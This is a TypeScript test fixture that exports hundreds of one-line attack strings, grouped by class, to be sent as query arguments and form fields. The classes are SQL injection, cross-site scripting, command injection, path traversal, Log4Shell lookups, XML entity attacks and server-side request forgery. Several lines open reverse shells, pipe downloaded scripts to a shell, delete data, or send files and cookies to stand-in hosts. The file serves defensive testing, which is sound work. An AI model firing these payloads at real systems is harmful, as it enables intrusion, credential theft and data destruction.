/**
 * Attacks, a line each, by class. Written for these tests; none is taken from a collection. Each is sent as an argument of the
 * query and as a field of a form.
 */
export const ATTACKS: Readonly<Record<string, string>> = {
  sqlInjection: String.raw`
1' OR '1'='1
7' or 7=7--
' or 3=3#
x' or ''='
admin'--
root' #
admin'/*
bob' or 'z'='z'--
' or 4=4/*
") or ("b"="b
') or ('q'='q
5 or 5=5
12 and 12=13
3) or (9=9
-1 union select 1,2,3
9 UNION ALL SELECT NULL,NULL,NULL--
' union select login, secret from members--
77' union all select 1,concat(login,0x3a,secret),3 from accounts#
1'; drop table orders--
42; drop table sessions;
4;exec xp_cmdshell 'dir c:\'
'; exec master..xp_cmdshell 'ping 192.0.2.7'--
1; waitfor delay '0:0:9'--
' waitfor delay '0:0:6'--
1 and sleep(7)
8' and sleep(7)#
2 or sleep(3)
' and benchmark(3000000,sha1(1))--
1 order by 14
6' order by 5-- -
' group by orders.id having 1=1--
' having 2=2--
1 and extractvalue(1,concat(0x5c,version()))
1' and updatexml(1,concat(0x5c,(select user())),1)-- -
' and (select * from (select(sleep(4)))q)--
3 and (select count(*) from information_schema.columns)>0
select * from customers
select login, secret from members
SELECT @@hostname
select pg_sleep(6)
1/**/union/**/select/**/4,5
2 /*!50000union*/ /*!50000select*/ 1,2
7'||'7
'||(select 7)||'
a'-'b
'='
' or 1 like 1--
1' rlike (select (case when (3=3) then 3 else 0x28 end))--
if(now()=sysdate(),sleep(11),0)
(select(0)from(select(sleep(12)))w)
2' where 31=31 or 17=17--
9%' and 44=(select count(*) from all_users t1,all_users t2) and '%'='
1)) union all select null,null--
y' and staff.mail is null; --
1" procedure analyse(extractvalue(rand(),concat(0x3a,version())),1)--
declare @q varchar(99) set @q = 'x' exec(@q)
'; shutdown--
insert into members values (9,'zed')
delete from members where 1=1
update members set secret='x' where id=4
1' into outfile '/srv/www/q.php'--
-5 union select load_file('/etc/hostname')
' or login like '%
none' or 'k'='k
\' or 8=8--
6 or 'm'='m'
or 9=9
or 'left' = 'le'+'ft'
or 5 > 4
' union all select @@version--
1 AND 1=utl_inaddr.get_host_name((select banner from v$version))
' AND ascii(substring((select database()),2,1))>77--
1' AND 1=(SELECT COUNT(*) FROM payments); --
4 or 4=4 limit 1
' or true--
' or not false#
1' xor 1=1#
1e0union select 3,4
1;select 8
';select pg_sleep(13)--
1 in (select 1)
5 and 5 in (select name from sysobjects)
1' && 6=6#
1' || 6=6#
2'|| sleep(4)||'
ann') or '6'='6'--
ann") or "6"="6"/*
' UNION SELECT 1, 'who', 'ever', 1--
1 AND (SELECT 19 FROM(SELECT COUNT(*),CONCAT(0x71,(SELECT 1))x FROM INFORMATION_SCHEMA.PLUGINS GROUP BY x)a)
%' or 7=7 --
1 AND 88=CONVERT(INT,(SELECT CHAR(88)))
exec sp_addlogin 'eve' , 'secret'
' ; drop table audit --
b' or 2=2; --
b' waitfor delay '0:0:8'--
"||pg_sleep(5)--
benchmark(4000000,MD5(7))#
' or 0=0 #
hi or 2=2 --"
1' union select null,table_name from information_schema.tables--
1 uni%6fn sel%65ct 1,2
1%27%20or%20%271%27%3D%271
1' or 1=1 -- -x
1" or 3<4 or "a"="b
1' and (select substr(login,1,1) from members limit 1)='a
1' and exists(select * from members)--
1);select pg_sleep(3)--
1 or exists(select 1 from dual)
1' or if(1=1,sleep(2),0)--
1' or (select 1 from(select count(*),concat(version(),floor(rand(0)*2))x from information_schema.tables group by x)a)--
'; insert into log values('x')--
0' union select 1,2,group_concat(table_name) from information_schema.tables where table_schema=database()-- -
1' and 1=1 union select null, version()--
999999 or 1=1
'; update accounts set balance=0--
1' or '1' like '1
1' or 'a' in ('a')--
1' or 1 between 0 and 2--
1 and ord(mid((select user()),1,1))>64
{"$ne": null}
{"$gt": ""}
' || '1'=='1
admin*)(uid=*))(|(uid=*`,

  crossSiteScripting: String.raw`
<script>alert(7)</script>
<SCRIPT SRC=//example.test/x.js></SCRIPT>
<img src=q onerror=alert(7)>
<IMG SRC="javascript:alert('q');">
<IMG SRC=JaVaScRiPt:alert('q')>
<img """><script>alert("q")</script>">
<img src=/ onerror="alert(String.fromCharCode(81,82))">
<svg/onload=alert(7)>
<svg onload=alert${'`'}7${'`'}>
<body onload=alert('q')>
<body background="javascript:alert('q')">
<iframe src="javascript:alert(7)">
<a href="javascript:alert(7)">go</a>
<a href="jav&#x09;ascript:alert(7)">go</a>
<a href="&#106;avascript:alert(7)">go</a>
" onmouseover=alert(7) y="
' onfocus=alert(7) autofocus='
q onmouseover=alert(7)
"><script>alert(7)</script>
"><img src=q onerror=prompt(7)>
javascript:alert(7)
javascript://%0aalert(7)
';alert(7)//
'-alert(7)-'
";alert(String.fromCharCode(81))//
\";alert('q');//
</script><script>alert(7)</script>
{{constructor.constructor('alert(7)')()}}
<details open ontoggle=alert(7)>
<math><a xlink:href="javascript:alert(7)">go
<object data="javascript:alert(7)">
<embed src="data:text/html;base64,PHNjcmlwdD4=">
<meta http-equiv="refresh" content="0;url=javascript:alert('q');">
<link rel=stylesheet href="javascript:alert(7)">
<div style="width: expression(alert('q'));">
<style>@import 'javascript:alert(7)';</style>
<base href="javascript:alert(7)//">
<form action="javascript:alert(7)"><input type=submit>
<button formaction=javascript:alert(7)>go
<input onfocus=alert(7) autofocus>
<video><source onerror="alert(7)">
<marquee onstart=alert(7)>
<q onclick=alert(7)>go
data:text/html,<script>alert(7)</script>
data:text/html;base64,PHNjcmlwdD5hbGVydCg3KTwvc2NyaXB0Pg==
[][(![]+[])[+[]]+([![]]+[][[]])
window['alert'](7)
top["al"+"ert"](7)
eval(atob('YWxlcnQoNyk='))
alert(document.cookie)
confirm(7)
document.write('<q>')
+ADw-script+AD4-alert(7)
<svg><animate onbegin=alert(7) attributeName=q>
<isindex action=javascript:alert(7) type=image>
<img/src=q/onerror=alert(7)>
<img src=q:alert(alt) onerror=eval(src) alt=0>
<!--[if gte IE 4]><SCRIPT>alert('q');</SCRIPT><![endif]-->
<?xml-stylesheet href="javascript:alert(7)"?>
onerror=alert(7)
"onclick=alert(7)//
<select autofocus onfocus=alert(7)>
<textarea autofocus onfocus=alert(7)>
<table background="javascript:alert(7)">
<img src="q" onerror  =  "alert(7)">
<p onpointerenter=alert(7)>
%3Cscript%3Ealert(7)%3C/script%3E
\u003cscript\u003ealert(7)\u003c/script\u003e
&lt;script&gt;alert(7)&lt;/script&gt;
<scr%00ipt>alert(7)</scr%00ipt>
<a onclick="fetch('//example.test/'+document.cookie)">go</a>
<audio src onloadstart=alert(7)>
<style onload=alert(7)></style>
<iframe srcdoc="<img src=q onerror=alert(7)>"></iframe>
<svg><use href="data:image/svg+xml;base64,PHN2Zz4=#x">
<noscript><p title="</noscript><img src=q onerror=alert(7)>">
<img src=q onerror=window.location='//example.test'>
'};alert(7);{'
"+alert(7)+"
${'${alert(7)}'}
<x/ontouchstart=alert(7)>
<input type=image src=q onerror=alert(7)>
<xml onreadystatechange=alert(7)>
<object classid="clsid:q" onerror=alert(7)>
'"><svg onload=alert(7)>`,

  commandExecution: String.raw`
;id
|id
&&whoami
; cat /etc/passwd
| cat /etc/hosts
$(whoami)
$(cat /etc/shadow)
${'`whoami`'}
${'`id`'}
127.0.0.1; ls -la
127.0.0.1 && uname -a
127.0.0.1 | nc 192.0.2.1 4444 -e /bin/sh
x;wget http://192.0.2.9/a.sh
x;curl http://192.0.2.9/a.sh|sh
;ping -c 4 192.0.2.1
& ping -n 3 127.0.0.1 &
|| ping -c 3 127.0.0.1
;sleep 9
|sleep 9
; sleep 5 #
$(sleep 6)
/bin/cat /etc/passwd
/usr/bin/id
;/bin/bash -i
bash -i >& /dev/tcp/192.0.2.4/9001 0>&1
python -c 'import os;os.system("id")'
perl -e 'exec "/bin/sh";'
php -r 'system("id");'
;c'a't /etc/passwd
;c"a"t /etc/passwd
;c\at /etc/passwd
;cat${'${IFS}'}/etc/passwd
;cat$IFS$9/etc/passwd
;{cat,/etc/passwd}
;cat</etc/passwd
;/b?n/c?t /e??/p?sswd
;who$@ami
() { :; }; echo vulnerable
() { :;}; /bin/bash -c "id"
() { ignored; }; /usr/bin/wget http://192.0.2.3/x
;echo $HOME
; echo $PATH
;env
|printenv
;ifconfig
| netstat -an
;ps aux
;rm -rf /
; chmod 777 /tmp/x
;chmod +x /tmp/a
mkfifo /tmp/p; nc 192.0.2.2 80 < /tmp/p
;nslookup example.test
|nslookup example.test
cmd.exe /c dir
cmd /c whoami
& dir c:\
| dir c:\windows
&& type c:\boot.ini
| type %SYSTEMROOT%\win.ini
;powershell -nop -c "iex 1"
powershell.exe -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA
Invoke-Expression (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a')
||nslookup example.test
& ipconfig /all
| net user
&& systeminfo
%0Acat /etc/passwd
a%0aid
a||whoami
a;tail -n 5 /var/log/syslog
a|head -5 /etc/group
;bash -c id
;find / -name id_rsa
;curl -d @/etc/passwd http://192.0.2.1/
system('cat /etc/passwd')
exec("whoami")
<?php system($_GET['c']); ?>
;echo "PD9waHA=" | base64 -d
a;ls /
a|ls
$(ls)
ls -la
whoami
uname -a
p^i^n^g -n 1 127.0.0.1 & p"i"ng`,

  traversal: String.raw`
../../../../etc/passwd
../../../etc/shadow
..\..\..\windows\win.ini
..\..\..\..\boot.ini
..%2f..%2f..%2fetc%2fpasswd
..%252f..%252fetc%252fpasswd
%2e%2e/%2e%2e/etc/passwd
%2e%2e%2f%2e%2e%2fetc%2fpasswd
..%5c..%5cwindows%5cwin.ini
....//....//etc/passwd
....\/....\/etc/passwd
..%c0%af..%c0%afetc/passwd
%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd
..%u2215..%u2215etc/passwd
..;/..;/manager/html
/etc/passwd
/etc/shadow
/etc/passwd%00.jpg
../../../../etc/passwd%00.png
/proc/self/environ
/proc/version
/proc/1/cmdline
C:\boot.ini
c:/windows/win.ini
C:\Windows\System32\drivers\etc\hosts
file:///etc/passwd
file:///c:/windows/win.ini
php://filter/convert.base64-encode/resource=index.php
php://input
expect://id
zip://x.zip#y
phar://x.phar/y
/var/log/apache2/access.log
../../../var/log/nginx/error.log
../.env
../config.php
../../wp-config.php
./../../../etc/hosts
/static/../../../etc/passwd
images/../../../../etc/passwd
/././././etc/passwd
//etc//passwd
..//..//..//etc/passwd
.../.../.../etc/passwd
../../../../../../../../proc/self/status
../../../../root/.bash_history
/root/.ssh/id_rsa
../../WEB-INF/web.xml
/.htpasswd
../.htaccess
../../../../../../windows/system32/cmd.exe
\..\..\..\etc\passwd
/..\../..\../etc/passwd
..0x2f..0x2fetc/passwd/../../../etc/passwd
../../../boot.ini
/home/bob/.ssh/id_rsa
..%00/..%00/etc/passwd
netdoc:///etc/passwd
gopher://127.0.0.1:6379/_INFO
dict://127.0.0.1:11211/stat`,

  log4shell: String.raw`
${'${jndi:ldap://192.0.2.1/a}'}
${'${jndi:rmi://192.0.2.1/a}'}
${'${jndi:dns://x.example.test}'}
${'${${lower:j}ndi:ldap://x/a}'}
${'${${::-j}${::-n}${::-d}${::-i}:ldap://x/a}'}
${'${${env:NOPE:-j}ndi:ldap://x/a}'}
${'${jndi:${lower:l}${lower:d}ap://x/a}'}
${'${${upper:j}ndi:rmi://x/a}'}
${'${j${lower:n}di:ldap://x/a}'}
${'${jnd${sys:none:-i}:ldap://x}'}
${'${${env:AWS_SECRET_ACCESS_KEY}}'}
${'${${lower:${lower:j}}ndi:ldap://x}'}
${'%24%7bjndi:ldap://x/a%7d'}
${"${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://x}"}
${'${script:javascript:java.lang.Runtime.getRuntime().exec("id")}'}
${'${jndi:iiop://x/a}'}`,

  xmlEntities: String.raw`
<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>
<?xml version="1.0"?><!DOCTYPE d [<!ELEMENT d ANY><!ENTITY x SYSTEM "http://192.0.2.1/x">]><d>&x;</d>
<!DOCTYPE r [<!ENTITY % p SYSTEM "http://192.0.2.1/p.dtd">%p;]>
<!ENTITY lol "lol">
<!DOCTYPE svg SYSTEM "http://192.0.2.1/x.dtd">
<xi:include href="file:///etc/passwd" parse="text"/>
<!DOCTYPE a [<!ENTITY b PUBLIC "x" "file:///etc/hosts">]>`,

  otherServers: String.raw`
http://169.254.169.254/latest/meta-data/
http://169.254.169.254/latest/meta-data/iam/security-credentials/
http://2852039166/latest/
http://0xa9fea9fe/
http://[::ffff:a9fe:a9fe]/
http://metadata.google.internal/computeMetadata/v1/
http://169.254.170.2/v2/credentials
http://192.0.2.44/shell.txt
https://203.0.113.9/r57.php
http://127.0.0.1:8080/admin
ftp://198.51.100.3/x
http://evil.example/c99.txt?
rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA
aced00057372
T(java.lang.Runtime).getRuntime().exec("id")
class.module.classLoader.resources.context.parent.pipeline.first.pattern=x
%{(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}`,
};
